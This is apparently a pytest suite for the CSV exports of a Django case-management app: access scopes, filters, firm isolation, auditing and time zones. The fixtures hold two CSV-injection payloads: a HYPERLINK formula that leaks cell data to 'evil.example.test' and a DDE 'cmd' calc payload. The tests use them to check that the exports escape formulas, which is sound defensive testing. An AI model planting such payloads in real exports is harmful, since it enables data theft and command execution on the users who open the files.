"""CSV exports of a firm's cases and status changes, as a firm's other systems pull them
from the API and as staff download them from the case list.

The files are read back with Python's `csv` module, as a case-management system would.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client as Browser
from django.test.utils import CaptureQueriesContext

from casewatch.accounts.api_tokens import create_token
from casewatch.accounts.models import Firm, Membership, Role
from casewatch.audit.models import AuditEntry
from casewatch.cases.exports import CASE_COLUMNS, EVENT_COLUMNS, PERSONAL_COLUMNS
from casewatch.cases.models import Case, Client, StatusEvent
from tests.environment import sign_in
from tests.routing_world import change, member

pytestmark = pytest.mark.django_db

API = "/api/v1"
BOM = b"\xef\xbb\xbf"
NEW_YORK = ZoneInfo("America/New_York")
FAKEY = {"name": "Fakey McTestface", "email": "fakey@example.test", "phone": "+15550100111"}
# What a hostile client record might hold: each would run as a formula in a spreadsheet.
HYPERLINK = '=HYPERLINK("http://evil.example.test/?leak="&A1,"Click me")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
# When alpha's cases changed (UTC).
MONDAY = datetime(2026, 3, 2, 15, 0, tzinfo=UTC)


# --- A firm with cases, and another firm -------------------------------------------------


def add_case(firm: Firm, receipt: str | None, client: Client | None, **fields: Any) -> Case:
    return Case.objects.create(firm=firm, receipt_number=receipt, client=client, **fields)


def changed(case: Case, status: str, at: datetime, *, initial: bool = False) -> StatusEvent:
    """A change as the monitor records it: the event, and the case's status and titles."""
    event = change(case, status, at=at, initial=initial)
    Case.objects.filter(pk=case.pk).update(title_en=event.title_en, title_es=event.title_es)
    return event


@pytest.fixture
def firm() -> Firm:
    """Alpha Law: Fakey's I-485 (an RFE on Monday), a hostile client's I-130, an archived
    N-400 and a case whose receipt is pending."""
    alpha = Firm.objects.create(name="Alpha Law", slug="alpha", time_zone="America/New_York")
    attorney = member(alpha, "attorney", Role.ATTORNEY)
    fakey = Client.objects.create(firm=alpha, reference="A-1", personal=FAKEY, language="es")
    hostile = Client.objects.create(
        firm=alpha,
        reference="+A-2",
        personal={"name": HYPERLINK, "email": "hostile@example.test", "phone": "+15550100112"},
    )
    summer = Client.objects.create(firm=alpha, reference="A-3", personal={"name": SUM})
    i485 = add_case(
        alpha,
        "EAC2690000001",
        fakey,
        form_type="I-485",
        attorney=attorney.user,
        tags=["priority", "family"],
        notes="Fakey prefers calls after 5 pm.",
    )
    changed(i485, "case_received", MONDAY - timedelta(days=20), initial=True)
    changed(i485, "rfe_sent", MONDAY)
    i130 = add_case(alpha, "EAC2690000002", hostile, form_type="I-130")
    changed(i130, "approved", MONDAY - timedelta(days=1))
    add_case(alpha, "LIN2690000003", summer, form_type="N-400", archived_at=MONDAY)
    add_case(alpha, None, summer, form_type="I-765")
    return alpha


@pytest.fixture
def other_firm() -> Firm:
    beta = Firm.objects.create(name="Beta Law", slug="beta")
    client = Client.objects.create(
        firm=beta, reference="B-1", personal={"name": "Beto Fakeclient-Beta"}
    )
    case = add_case(beta, "WAC2690000009", client, form_type="I-485")
    change(case, "rfe_sent", at=MONDAY)
    return beta


def token(firm: Firm, scope: str) -> str:
    return create_token(firm, scope, actor="test").secret


def pull(secret: str, path: str, **params: Any) -> Any:
    return Browser().get(API + path, params, headers={"Authorization": f"Bearer {secret}"})


def body(response: Any) -> bytes:
    assert response.status_code == 200, response.content
    assert response.streaming, "an export is streamed, not built in memory"
    return b"".join(response.streaming_content)


def rows(response: Any) -> list[dict[str, str]]:
    """The file as a case-management system reads it: a header, then one dict per row."""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    data = body(response)
    assert data.startswith(BOM), "Excel reads UTF-8 only with a byte-order mark"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def header(response: Any) -> list[str]:
    data = body(response).decode("utf-8-sig")
    return next(csv.reader(io.StringIO(data, newline="")))


def by_receipt(found: list[dict[str, str]]) -> dict[str, dict[str, str]]:
    return {row["receipt_number"]: row for row in found}


# --- The cases file ------------------------------------------------------------------------


def test_the_cases_file_parses_back_into_one_row_per_case_with_documented_columns(
    firm: Firm,
) -> None:
    found = rows(pull(token(firm, "write"), "/exports/cases.csv"))
    assert list(found[0]) == list(CASE_COLUMNS)
    # Active cases, latest status change first, as GET /cases lists them (a case with no
    # status yet sorts where the database puts an empty date: last in SQLite, first in
    # PostgreSQL, as in the web app's list).
    dated = [row["receipt_number"] for row in found if row["status_since"]]
    assert dated == ["EAC2690000001", "EAC2690000002"]
    assert sorted(row["receipt_number"] for row in found) == ["", "EAC2690000001", "EAC2690000002"]
    case = Case.objects.get(receipt_number="EAC2690000001")
    first = next(row for row in found if row["receipt_number"] == "EAC2690000001")
    assert first == {
        "id": str(case.pk),
        "receipt_number": "EAC2690000001",
        "form_type": "I-485",
        "status": "rfe_sent",
        "category": "evidence_requested",
        "urgency": "action",
        "title_en": "Request for Additional Evidence Was Sent",
        "title_es": case.title_es,
        "status_since": "2026-03-02T15:00:00Z",
        "uscis_status_since": "",
        "filed_on": "",
        "client_reference": "A-1",
        "client_name": "Fakey McTestface",
        "client_email": "fakey@example.test",
        "client_phone": "'+15550100111",
        "client_language": "es",
        "attorney_id": str(case.attorney_id),
        "attorney": "Attorney",
        "paralegal_id": "",
        "paralegal": "",
        "tags": "priority, family",
        "notes": "Fakey prefers calls after 5 pm.",
        "archived_at": "",
        "last_checked_at": "",
        "created_at": first["created_at"],
        "updated_at": first["updated_at"],
        "case_url": f"http://testserver/cases/{case.pk}/",
    }
    assert first["created_at"].endswith("Z")


def test_times_are_iso_8601_in_utc_whatever_zone_they_were_written_in(firm: Firm) -> None:
    case = Case.objects.get(receipt_number="EAC2690000001")
    Case.objects.filter(pk=case.pk).update(
        uscis_status_since=datetime(2026, 3, 1, 23, 30, tzinfo=NEW_YORK)
    )
    found = by_receipt(rows(pull(token(firm, "read"), "/exports/cases.csv")))
    assert found["EAC2690000001"]["uscis_status_since"] == "2026-03-02T04:30:00Z"


def test_a_formula_like_client_name_phone_or_reference_comes_out_as_text(firm: Firm) -> None:
    found = rows(pull(token(firm, "write"), "/exports/cases.csv", state="all"))
    hostile = by_receipt(found)["EAC2690000002"]
    assert hostile["client_name"] == "'" + HYPERLINK
    assert hostile["client_phone"] == "'+15550100112"
    assert hostile["client_reference"] == "'+A-2"
    assert by_receipt(found)["LIN2690000003"]["client_name"] == "'" + SUM
    for row in found:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value


def test_a_read_token_gets_no_personal_columns_and_a_write_token_does(firm: Firm) -> None:
    read = pull(token(firm, "read"), "/exports/cases.csv")
    assert header(read) == [c for c in CASE_COLUMNS if c not in PERSONAL_COLUMNS]
    text = body(pull(token(firm, "read"), "/exports/cases.csv")).decode("utf-8-sig")
    for secret in (*FAKEY.values(), "Fakey prefers", "HYPERLINK"):
        assert secret.lstrip("+") not in text
    assert "A-1" in text  # the firm's own client id is not personal data

    write = pull(token(firm, "write"), "/exports/cases.csv")
    assert header(write) == list(CASE_COLUMNS)


def test_the_filters_of_the_case_list_apply(firm: Firm) -> None:
    secret = token(firm, "read")

    def receipts(**filters: str) -> list[str]:
        return [
            row["receipt_number"] for row in rows(pull(secret, "/exports/cases.csv", **filters))
        ]

    assert receipts(form="i130") == ["EAC2690000002"]
    assert receipts(category="evidence_requested") == ["EAC2690000001"]
    assert receipts(state="archived") == ["LIN2690000003"]
    assert sorted(receipts(state="all")) == ["", "EAC2690000001", "EAC2690000002", "LIN2690000003"]
    assert receipts(receipt="pending") == [""]
    assert receipts(tag="PRIORITY") == ["EAC2690000001"]
    assert receipts(q="eac269") == ["EAC2690000001", "EAC2690000002"]
    # A read token searches by receipt only: by name it would learn who the clients are.
    assert pull(secret, "/exports/cases.csv", q="mctestface").status_code == 403
    secret = token(firm, "write")
    assert receipts(q="mctestface") == ["EAC2690000001"]
    assert receipts(q="Nobody Atall") == []  # the header alone


def test_a_filter_value_casewatch_does_not_know_is_a_problem_not_an_empty_file(
    firm: Firm,
) -> None:
    response = pull(token(firm, "read"), "/exports/cases.csv", category="shiny", sort="nope")
    assert response.status_code == 422
    assert response["Content-Type"] == "application/problem+json"
    assert {e["field"] for e in response.json()["errors"]} == {"category", "sort"}


def test_no_token_is_401_and_a_read_token_may_export(firm: Firm) -> None:
    response = Browser().get(API + "/exports/cases.csv")
    assert response.status_code == 401
    assert response["Content-Type"] == "application/problem+json"
    assert pull(token(firm, "read"), "/exports/events.csv").status_code == 200


def test_another_firms_cases_and_events_never_appear(firm: Firm, other_firm: Firm) -> None:
    secret = token(firm, "write")
    for path, params in (
        ("/exports/cases.csv", {"state": "all"}),
        ("/exports/cases.csv", {"q": "WAC2690000009"}),
        ("/exports/cases.csv", {"q": "Beto"}),
        ("/exports/events.csv", {}),
    ):
        text = body(pull(secret, path, **params)).decode("utf-8-sig")
        assert "WAC2690000009" not in text and "Beto" not in text, (path, params)
    theirs = rows(pull(token(other_firm, "write"), "/exports/events.csv"))
    assert [row["receipt_number"] for row in theirs] == ["WAC2690000009"]


def test_the_file_costs_the_same_few_queries_for_3_cases_or_30(firm: Firm) -> None:
    """Clients and staff are joined in, not read once per case."""
    secret = token(firm, "write")

    def queries() -> int:
        with CaptureQueriesContext(connection) as done:
            body(pull(secret, "/exports/cases.csv", state="all"))
        return len(done)

    few = queries()
    attorney = User.objects.get(username="attorney.alpha")
    for n in range(27):
        client = Client.objects.create(firm=firm, reference=f"M-{n}", personal=FAKEY)
        add_case(firm, f"IOE09{n:08d}", client, attorney=attorney, paralegal=attorney)
    assert Case.objects.filter(firm=firm).count() == 31
    # The token's use is noted at most once a minute, so the second pull notes nothing.
    assert queries() <= few


# --- The status events file -----------------------------------------------------------


def test_status_changes_in_a_window_come_oldest_first_until_excluded(firm: Firm) -> None:
    secret = token(firm, "write")
    everything = rows(pull(secret, "/exports/events.csv"))
    assert list(everything[0]) == list(EVENT_COLUMNS)
    assert [(row["receipt_number"], row["status"]) for row in everything] == [
        ("EAC2690000001", "case_received"),
        ("EAC2690000002", "approved"),
        ("EAC2690000001", "rfe_sent"),
    ]
    rfe = StatusEvent.objects.get(status="rfe_sent")
    assert everything[-1] == {
        "id": str(rfe.pk),
        "case_id": str(rfe.case_id),
        "receipt_number": "EAC2690000001",
        "form_type": "I-485",
        "client_reference": "A-1",
        "client_name": "Fakey McTestface",
        "status": "rfe_sent",
        "previous_status": "",
        "category": "evidence_requested",
        "urgency": "action",
        "title_en": "Request for Additional Evidence Was Sent",
        "title_es": rfe.title_es,
        "description_en": "",
        "description_es": "",
        "uscis_date": "2026-03-02T12:00:00Z",
        "observed_at": "2026-03-02T15:00:00Z",
        "initial": "false",
        "recovered": "false",
        "case_url": f"http://testserver/cases/{rfe.case_id}/",
    }
    assert everything[0]["initial"] == "true"

    window = rows(
        pull(secret, "/exports/events.csv", since="2026-03-01T15:00:00Z", until=MONDAY.isoformat())
    )
    assert [row["status"] for row in window] == ["approved"]
    # A time without an offset is UTC.
    assert [
        row["status"]
        for row in rows(pull(secret, "/exports/events.csv", since="2026-03-02T15:00:00"))
    ] == ["rfe_sent"]


def test_a_read_token_gets_status_changes_without_client_names(firm: Firm) -> None:
    response = pull(token(firm, "read"), "/exports/events.csv")
    assert header(response) == [c for c in EVENT_COLUMNS if c != "client_name"]


def test_an_empty_window_is_refused_with_what_was_wrong(firm: Firm) -> None:
    response = pull(
        token(firm, "read"),
        "/exports/events.csv",
        since=MONDAY.isoformat(),
        until=MONDAY.isoformat(),
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "until"


def test_the_schema_says_the_exports_answer_csv_and_problems() -> None:
    schema = Browser().get(API + "/openapi.json").json()
    for path in ("/api/v1/exports/cases.csv", "/api/v1/exports/events.csv"):
        responses = schema["paths"][path]["get"]["responses"]
        assert list(responses["200"]["content"]) == ["text/csv"]
        assert "application/problem+json" in responses["401"]["content"]
    parameters = schema["paths"]["/api/v1/exports/cases.csv"]["get"]["parameters"]
    assert "cursor" not in {p["name"] for p in parameters}, "the whole list: no pages"


# --- The audit trail --------------------------------------------------------------------


def test_every_export_is_audited_with_what_was_asked_never_with_what_was_sent(
    firm: Firm,
) -> None:
    issued = create_token(firm, "write", actor="test")
    body(pull(issued.secret, "/exports/cases.csv", q="McTestface", form="I-485"))
    body(pull(issued.secret, "/exports/events.csv", since="2026-03-01T00:00:00-05:00"))
    cases, events = (
        AuditEntry.objects.get(action=action) for action in ("cases.exported", "events.exported")
    )
    for entry in (cases, events):
        assert entry.actor == f"token:{issued.token.pk}"
        assert entry.firm_id == firm.pk
        assert "Fakey" not in json.dumps(entry.details) and "McTestface" not in json.dumps(
            entry.details
        )
    assert cases.details == {
        "format": "csv",
        "personal": True,
        "filters": {"form": "I-485", "search": "name"},
    }
    assert events.details == {
        "format": "csv",
        "personal": True,
        "since": "2026-03-01T05:00:00Z",
        "until": None,
    }


# --- Staff downloads --------------------------------------------------------------------


def staff(firm: Firm, role: str) -> tuple[Browser, Membership]:
    membership = Membership.objects.filter(firm=firm, role=role).first() or member(
        firm, role.replace("_", ""), role
    )
    browser = Browser()
    sign_in(browser, User.objects.get(pk=membership.user_id))
    return browser, membership


def test_the_download_link_on_the_case_list_carries_its_filters(firm: Firm) -> None:
    browser, _ = staff(firm, Role.PARALEGAL)
    page = browser.get("/cases/", {"form": "I-130", "state": "all"}).content.decode()
    link = "/cases/export.csv?form=I-130&amp;state=all"
    assert f'href="{link}"' in page
    found = rows(browser.get(link.replace("&amp;", "&")))
    assert [row["receipt_number"] for row in found] == ["EAC2690000002"]
    assert found[0]["client_name"] == "'" + HYPERLINK
    assert found[0]["case_url"] == f"http://testserver/cases/{found[0]['id']}/"


def test_front_desk_downloads_without_personal_columns_case_workers_with(firm: Firm) -> None:
    """Every role may look at the cases; only roles that work on them take a file of
    every client's contact details away (the line the API draws between read and write)."""
    for role in (Role.ADMIN, Role.ATTORNEY, Role.PARALEGAL, Role.OPERATIONS):
        browser, _ = staff(firm, role)
        assert header(browser.get("/cases/export.csv")) == list(CASE_COLUMNS), role
    browser, _ = staff(firm, Role.FRONT_DESK)
    assert header(browser.get("/cases/export.csv")) == [
        c for c in CASE_COLUMNS if c not in PERSONAL_COLUMNS
    ]
    assert "client_name" not in header(browser.get("/cases/status-changes.csv"))
    page = browser.get("/cases/").content.decode()
    assert "leave out clients' names" in page


def test_staff_download_status_changes_for_days_in_their_time_zone(firm: Firm) -> None:
    """Monday in New York runs from 05:00 UTC Monday to 05:00 UTC Tuesday."""
    case = Case.objects.get(receipt_number="EAC2690000002")
    change(case, "card_mailed", at=datetime(2026, 3, 3, 4, 59, tzinfo=UTC))  # Monday, 23:59
    change(case, "card_mailed", at=datetime(2026, 3, 3, 5, 0, tzinfo=UTC))  # Tuesday
    browser, membership = staff(firm, Role.PARALEGAL)
    found = rows(
        browser.get("/cases/status-changes.csv", {"since": "2026-03-02", "until": "2026-03-02"})
    )
    assert [row["observed_at"] for row in found] == ["2026-03-02T15:00:00Z", "2026-03-03T04:59:00Z"]
    entry = AuditEntry.objects.get(action="events.exported")
    assert entry.actor == f"user:{membership.user_id}"
    assert entry.details == {
        "format": "csv",
        "personal": True,
        "since": "2026-03-02T05:00:00Z",
        "until": "2026-03-03T05:00:00Z",
    }


def test_a_day_that_is_not_a_date_downloads_nothing_and_says_why(firm: Firm) -> None:
    browser, _ = staff(firm, Role.PARALEGAL)
    response = browser.get("/cases/status-changes.csv", {"since": "last tuesday"}, follow=True)
    assert response.redirect_chain[-1][0] == "/cases/"
    page = response.content.decode()
    assert "is not a date: write it as YYYY-MM-DD" in page
    assert "No status changes were downloaded." in page
    response = browser.get(
        "/cases/status-changes.csv", {"since": "2026-03-05", "until": "2026-03-01"}, follow=True
    )
    assert "The last day is before the first." in response.content.decode()
    assert not AuditEntry.objects.filter(action="events.exported").exists()


def test_a_staff_download_is_audited_and_never_shows_another_firm(
    firm: Firm, other_firm: Firm
) -> None:
    browser, membership = staff(firm, Role.ATTORNEY)
    text = body(browser.get("/cases/export.csv", {"state": "all", "q": "Beto"})).decode()
    text += body(browser.get("/cases/status-changes.csv")).decode()
    assert "WAC2690000009" not in text and "Beto" not in text
    entry = AuditEntry.objects.get(action="cases.exported")
    assert entry.actor == f"user:{membership.user_id}"
    assert entry.details == {
        "format": "csv",
        "personal": True,
        "filters": {"state": "all", "search": "name"},
    }


def test_nobody_signed_in_is_sent_to_sign_in(firm: Firm) -> None:
    for url in ("/cases/export.csv", "/cases/status-changes.csv"):
        response = Browser().get(url)
        assert response.status_code == 302 and response["Location"].startswith("/login/")
